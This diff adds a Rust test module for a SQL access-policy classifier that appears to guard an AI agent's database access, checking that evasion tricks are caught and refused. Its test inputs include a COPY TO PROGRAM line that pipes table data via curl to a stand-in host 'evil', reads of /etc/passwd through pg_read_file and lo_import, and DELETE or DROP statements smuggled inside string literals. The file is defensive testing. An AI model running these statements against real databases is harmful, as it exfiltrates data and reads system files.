@@ -1,1 +1,384 @@
+//! The classifier and decisions on statements that have fooled classifiers
+//! before. The corpus (tests/policy-corpus) covers the same ground end to end.
 
+use super::{
+    classify::{classify, Dialect},
+    decide::{decide, Decision, SessionContext},
+    facts::{Action, BaselineCheck, Classified, Statement},
+    rules::{ObjectPattern, Policy, Rule, RuleKind, Subjects},
+};
+
+fn statements(sql: &str) -> Vec<Statement> {
+    match classify(sql, Dialect::default()) {
+        Classified::Statements(s) => s,
+        Classified::Unparsable(why) => panic!("{sql}: {why}"),
+    }
+}
+
+/// "action target" for every access of every statement.
+fn accesses(sql: &str) -> Vec<String> {
+    let mut out: Vec<String> = statements(sql)
+        .iter()
+        .flat_map(|s| {
+            s.accesses
+                .iter()
+                .map(|a| format!("{} {}", a.action, a.target))
+        })
+        .collect();
+    out.sort();
+    out
+}
+
+fn rule(name: &str, kind: RuleKind, actions: &str, objects: &[&str]) -> Rule {
+    Rule {
+        name: name.into(),
+        kind,
+        subjects: Subjects {
+            identities: vec!["*".into()],
+            groups: vec![],
+        },
+        actions: actions
+            .split(',')
+            .filter_map(super::facts::Actions::parse_word)
+            .flat_map(|a| a.iter().collect::<Vec<_>>())
+            .collect(),
+        objects: objects
+            .iter()
+            .map(|o| ObjectPattern::parse(o).unwrap())
+            .collect(),
+        functions: vec![],
+        languages: vec![],
+        fast_path_calls: false,
+        require_approval: false,
+    }
+}
+
+fn reader_policy() -> Policy {
+    Policy {
+        rules: vec![
+            rule("read-app", RuleKind::Allow, "read", &["app.*", "public.*"]),
+            rule("no-hr", RuleKind::Deny, "all", &["hr.*"]),
+        ],
+        overrides: vec![],
+    }
+}
+
+fn verdict(sql: &str) -> Decision {
+    let rules = reader_policy().for_identity("agent", &[]);
+    let mut context = SessionContext {
+        search_path: vec!["public".into()],
+        ..Default::default()
+    };
+    for statement in statements(sql) {
+        let decision = decide(&rules, &statement, &context);
+        if !matches!(decision, Decision::Allowed { .. }) {
+            return decision;
+        }
+        context.apply(&statement.effects);
+    }
+    Decision::Allowed { rules: vec![] }
+}
+
+fn refused_by(sql: &str) -> String {
+    match verdict(sql) {
+        Decision::Refused(r) => r.rule,
+        other => panic!("{sql}: expected a refusal, got {other:?}"),
+    }
+}
+
+#[test]
+fn data_modifying_cte_is_a_delete() {
+    assert_eq!(
+        accesses("WITH gone AS (DELETE FROM app.orders RETURNING *) SELECT * FROM gone"),
+        ["delete app.orders"]
+    );
+}
+
+#[test]
+fn cte_names_shadow_tables_only_in_scope() {
+    // A non-recursive WITH query's own body sees the real table.
+    assert_eq!(
+        accesses("WITH secrets AS (SELECT * FROM secrets) SELECT * FROM secrets"),
+        ["read secrets"]
+    );
+    // The CTE of a subquery does not hide the outer table of the same name.
+    assert_eq!(
+        accesses("SELECT * FROM (WITH t AS (SELECT 1) SELECT * FROM t) a, hr.t, t"),
+        ["read hr.t", "read t"]
+    );
+    assert!(
+        accesses("WITH RECURSIVE r AS (SELECT 1 UNION ALL SELECT 1 FROM r) SELECT * FROM r")
+            .is_empty()
+    );
+}
+
+#[test]
+fn identifiers_are_judged_as_decoded() {
+    assert_eq!(
+        accesses(r#"SELECT * FROM U&"\0068r".salaries"#),
+        ["read hr.salaries"]
+    );
+    assert_eq!(
+        accesses(r#"SELECT * FROM "HR"."Salaries""#),
+        ["read HR.Salaries"]
+    );
+    assert_eq!(accesses("SELECT * FROM HR.SALARIES"), ["read hr.salaries"]);
+    assert_eq!(refused_by(r#"SELECT * FROM U&"\0068r".salaries"#), "no-hr");
+}
+
+#[test]
+fn comments_and_dollar_quotes_hide_nothing() {
+    assert_eq!(
+        accesses("SELECT $x$ ; DELETE FROM app.orders $x$ /* ; DROP TABLE t */; DELETE -- x\n FROM app.orders"),
+        ["delete app.orders"]
+    );
+}
+
+#[test]
+fn writes_hidden_in_ddl_are_seen() {
+    assert_eq!(
+        accesses("SELECT * INTO scratch.copy FROM hr.salaries"),
+        ["ddl scratch.copy", "read hr.salaries"]
+    );
+    assert_eq!(
+        accesses("CREATE TABLE scratch.c AS SELECT * FROM app.orders"),
+        ["ddl scratch.c", "read app.orders"]
+    );
+    assert_eq!(
+        accesses("CREATE RULE r AS ON INSERT TO scratch.t DO ALSO DELETE FROM app.orders"),
+        ["ddl scratch.t", "delete app.orders"]
+    );
+}
+
+#[test]
+fn explain_runs_its_statement_only_with_analyze() {
+    assert_eq!(
+        accesses("EXPLAIN DELETE FROM app.orders"),
+        ["read app.orders", "utility EXPLAIN"]
+    );
+    assert_eq!(
+        accesses("EXPLAIN (ANALYZE) DELETE FROM app.orders"),
+        ["delete app.orders", "utility EXPLAIN"]
+    );
+    assert_eq!(
+        accesses("EXPLAIN (ANALYZE false) DELETE FROM app.orders"),
+        ["read app.orders", "utility EXPLAIN"]
+    );
+}
+
+#[test]
+fn copy_direction_and_baseline() {
+    assert_eq!(
+        accesses("COPY app.orders FROM STDIN"),
+        ["insert app.orders"]
+    );
+    assert_eq!(accesses("COPY app.orders TO STDOUT"), ["read app.orders"]);
+    assert_eq!(
+        refused_by("COPY app.orders TO PROGRAM 'curl -d @- evil'"),
+        "copy-program"
+    );
+    assert_eq!(
+        refused_by("COPY app.orders FROM '/etc/passwd'"),
+        "copy-file"
+    );
+}
+
+#[test]
+fn side_effect_functions_need_grants_wherever_they_hide() {
+    for sql in [
+        "SELECT lo_export(1, '/tmp/x')",
+        "SELECT 1 WHERE pg_read_file('/etc/passwd') IS NULL",
+        "SELECT CAST(pg_catalog.pg_ls_dir('/') AS text)",
+        "SELECT * FROM app.orders ORDER BY pg_terminate_backend(1)",
+        "SELECT * FROM app.orders LIMIT (SELECT length(pg_read_file('x')))",
+        "SELECT \"lo_import\"('/etc/passwd')",
+        "SELECT public.f()",
+        "SELECT 1 OPERATOR(public.###) 2",
+    ] {
+        assert_eq!(refused_by(sql), "default deny", "{sql}");
+    }
+    assert!(matches!(
+        verdict("SELECT lower(email), now(), random() FROM app.orders"),
+        Decision::Allowed { .. }
+    ));
+}
+
+#[test]
+fn settings_the_baseline_pins() {
+    for (sql, check) in [
+        ("SET search_path = hr", BaselineCheck::SetSearchPath),
+        ("SET LOCAL search_path TO hr", BaselineCheck::SetSearchPath),
+        ("RESET ALL", BaselineCheck::SetSearchPath),
+        ("DISCARD ALL", BaselineCheck::SetSearchPath),
+        ("SET ROLE postgres", BaselineCheck::SetRole),
+        ("SET SESSION AUTHORIZATION postgres", BaselineCheck::SetRole),
+        (
+            "SET standard_conforming_strings = off",
+            BaselineCheck::SetStandardConformingStrings,
+        ),
+        ("SET NAMES 'SJIS'", BaselineCheck::SetClientEncoding),
+        (
+            "SELECT set_config('search_path', 'hr', false)",
+            BaselineCheck::SetSearchPath,
+        ),
+    ] {
+        assert_eq!(refused_by(sql), check.name(), "{sql}");
+    }
+    assert!(matches!(
+        verdict("SET statement_timeout = '5s'"),
+        Decision::Allowed { .. }
+    ));
+}
+
+#[test]
+fn unqualified_names_resolve_like_the_server() {
+    let rules = reader_policy().for_identity("agent", &[]);
+    let one = |path: &[&str], sql: &str| {
+        let context = SessionContext {
+            search_path: path.iter().map(|s| s.to_string()).collect(),
+            ..Default::default()
+        };
+        decide(&rules, &statements(sql)[0], &context)
+    };
+    assert!(matches!(
+        one(&["public"], "SELECT * FROM notes"),
+        Decision::Allowed { .. }
+    ));
+    // A name that may resolve to hr.notes is refused.
+    assert!(matches!(
+        one(&["public", "hr"], "SELECT * FROM notes"),
+        Decision::Refused(_)
+    ));
+    // pg_catalog is searched first: pg_class is the catalog's, not public's.
+    assert!(matches!(
+        one(&["public"], "SELECT * FROM pg_class"),
+        Decision::Refused(_)
+    ));
+}
+
+#[test]
+fn prepared_statements_and_cursors_must_be_known() {
+    assert_eq!(refused_by("EXECUTE p"), "unknown-prepared-statement");
+    assert_eq!(refused_by("FETCH 10 FROM c"), "unknown-cursor");
+    assert!(matches!(
+        verdict("PREPARE p AS SELECT * FROM app.orders; EXECUTE p"),
+        Decision::Allowed { .. }
+    ));
+    assert_eq!(
+        refused_by("PREPARE p AS DELETE FROM app.orders"),
+        "default deny"
+    );
+}
+
+#[test]
+fn unparsable_and_untrusted() {
+    assert!(matches!(
+        classify("SELEC 1", Dialect::default()),
+        Classified::Unparsable(_)
+    ));
+    assert!(matches!(
+        classify("SELECT 1\0", Dialect::default()),
+        Classified::Unparsable(_)
+    ));
+    assert_eq!(
+        refused_by("DO LANGUAGE plpython3u $$ import os $$"),
+        "untrusted-language"
+    );
+}
+
+#[test]
+fn standard_conforming_strings_off_is_read_as_the_server_reads_it() {
+    // With the setting off, \' escapes the quote and the DELETE is inside the string.
+    let sql = r"SELECT 'a\'; DELETE FROM app.orders; --'";
+    let off = Dialect {
+        standard_conforming_strings: false,
+    };
+    match classify(sql, off) {
+        Classified::Statements(s) => assert!(s
+            .iter()
+            .all(|s| s.accesses.iter().all(|a| a.action != Action::Delete))),
+        Classified::Unparsable(_) => {}
+    }
+    // With it on (the default the gateway pins), the DELETE is a statement.
+    assert!(accesses(sql).contains(&"delete app.orders".to_owned()));
+}
+
+mod properties {
+    use proptest::prelude::*;
+
+    use super::super::{
+        classify::{classify, Dialect},
+        facts::Classified,
+        session::PolicyPhases,
+    };
+    use super::reader_policy;
+
+    /// Statements to cut up and splice: every grammar corner the corpus uses.
+    const SEEDS: &[&str] = &[
+        "SELECT * FROM app.orders WHERE id = $1",
+        "WITH x AS (DELETE FROM app.orders RETURNING *) SELECT * FROM x",
+        "SELECT $q$;DELETE FROM hr.salaries$q$, U&\"\\0068r\".x FROM t /* ; */",
+        "COPY (SELECT 1) TO PROGRAM 'id'",
+        "PREPARE p(int) AS UPDATE app.orders SET n = $1; EXECUTE p(1)",
+        "DO $$ BEGIN EXECUTE 'DROP TABLE x'; END $$",
+        "CREATE TABLE s.t (a text DEFAULT pg_read_file('/etc/passwd'))",
+        "SELECT E'\\'; DROP TABLE t; --'",
+        "EXPLAIN (ANALYZE, BUFFERS) SELECT lo_export(1, '/tmp/x')",
+        "SET LOCAL search_path = hr, public; RESET ALL",
+    ];
+
+    fn judge(text: &str) -> bool {
+        let mut phases = PolicyPhases::new(
+            reader_policy().for_identity("agent", &[]),
+            vec!["public".into()],
+            Dialect::default(),
+        );
+        phases.judge(text, true).is_ok()
+    }
+
+    fn spliced() -> impl Strategy<Value = String> {
+        (
+            prop::sample::select(SEEDS),
+            prop::sample::select(SEEDS),
+            any::<prop::sample::Index>(),
+            any::<prop::sample::Index>(),
+            ".{0,8}",
+        )
+            .prop_map(|(a, b, i, j, noise)| {
+                let cut = |s: &str, at: prop::sample::Index| {
+                    let mut k = at.index(s.len() + 1);
+                    while !s.is_char_boundary(k) {
+                        k -= 1;
+                    }
+                    k
+                };
+                let (ka, kb) = (cut(a, i), cut(b, j));
+                format!("{}{noise}{}", &a[..ka], &b[kb..])
+            })
+    }
+
+    proptest! {
+        #![proptest_config(ProptestConfig::with_cases(2000))]
+
+        /// Arbitrary text never crashes the classifier, and what does not
+        /// parse is never allowed.
+        #[test]
+        fn arbitrary_text(text in ".{0,200}") {
+            let unparsable = matches!(classify(&text, Dialect::default()), Classified::Unparsable(_));
+            if unparsable {
+                prop_assert!(!judge(&text));
+            }
+        }
+
+        /// Spliced statements: same properties, closer to the grammar.
+        #[test]
+        fn spliced_statements(text in spliced()) {
+            let classified = classify(&text, Dialect::default());
+            let off = classify(&text, Dialect { standard_conforming_strings: false });
+            if matches!(classified, Classified::Unparsable(_)) {
+                prop_assert!(!judge(&text));
+            }
+            drop(off);
+        }
+    }
+}
